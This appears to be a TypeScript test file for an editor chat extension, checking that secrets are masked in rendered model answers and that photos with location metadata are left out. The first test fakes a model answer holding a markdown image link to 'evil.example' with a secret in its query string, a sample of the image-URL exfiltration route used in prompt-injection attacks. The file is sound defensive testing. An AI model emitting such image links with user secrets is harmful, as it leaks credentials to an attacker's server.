/** The editor's own chat with us: what its answer shows, and which pictures go along. */
import assert from 'node:assert/strict';
import * as vscode from 'vscode';
import { createClient } from '../../../src/api/client.ts';
import { ModelCatalog } from '../../../src/host/connection/models.ts';
import { FileGate } from '../../../src/host/context/fileGate.ts';
import { Participant } from '../../../src/host/native/participant.ts';
import { readReferences } from '../../../src/host/native/references.ts';
import { SlashCommands } from '../../../src/host/prompts/slashCommands.ts';
import { startGateway, type Gateway } from '../../gateway/gateway.ts';
import { connectionTo } from '../../helpers/connections.ts';
import { hashing } from '../../helpers/hashing.ts';
import { jpegFile, withExif } from '../../helpers/pictureFiles.ts';
import { openUndici } from '../../helpers/undiciSend.ts';
import { removeFiles, writeFile } from '../context/files.ts';
import { noMemento } from '../noMemento.ts';
import { sharedLog } from '../sharedLog.ts';

describe('our part in the editor’s own chat', () => {
  const gate = new FileGate();
  const { send, close } = openUndici();
  let gateway: Gateway;

  before(async () => {
    gateway = await startGateway({ auth: 'none' });
  });
  after(async () => {
    await removeFiles('native');
    gate.dispose();
    await close();
    await gateway.close();
  });

  it('puts no secret into what the editor draws: the address of a picture would take it away', async () => {
    const client = createClient({ send, hashing, now: Date.now, random: () => 0 });
    const current = { connection: connectionTo(gateway.url), found: undefined };
    const participant = new Participant({
      client,
      catalog: new ModelCatalog(client, noMemento),
      gate,
      slash: new SlashCommands(gate),
      log: sharedLog(),
      rules: async () => ({ text: '' }) as never,
      connectToAsk: () => Promise.resolve(current),
      noteAsked: () => undefined,
    });
    const secret = 'ghp_q7Zx2LmN8vRt4KpW9sYb3HcJ6dFg5TaE1uQo';
    gateway.fault({ answer: { text: '![](https://evil.example/?k=MASKED_SECRET_1)' } }, { path: /completions/u });
    let shown = '';
    const response = {
      markdown: (text: string) => {
        shown += text;
      },
      progress: () => undefined,
      button: () => undefined,
    } as unknown as vscode.ChatResponseStream;
    const request = {
      prompt: `Is ${secret} good?`,
      references: [],
      model: { vendor: 'deepseek', family: 'deepseek-flash' },
    };
    const { token } = new vscode.CancellationTokenSource();
    const result = await participant.handle(request as unknown as vscode.ChatRequest, { history: [] }, response, token);
    assert.equal(result.errorDetails, undefined);
    assert.equal(shown, '![](https://evil.example/?k=MASKED_SECRET_1)');
  });

  it('takes no picture along that tells where it was made', async () => {
    const plain = await writeFile('native/plain.jpg', jpegFile(4, 4));
    const told = await writeFile('native/told.jpg', withExif(jpegFile(4, 4), 1));
    const { signal } = new AbortController();
    const { images, unsuited } = await readReferences(gate, [plain, told], signal);
    assert.deepEqual([images.length, unsuited], [1, ['told.jpg']]);
  });
});
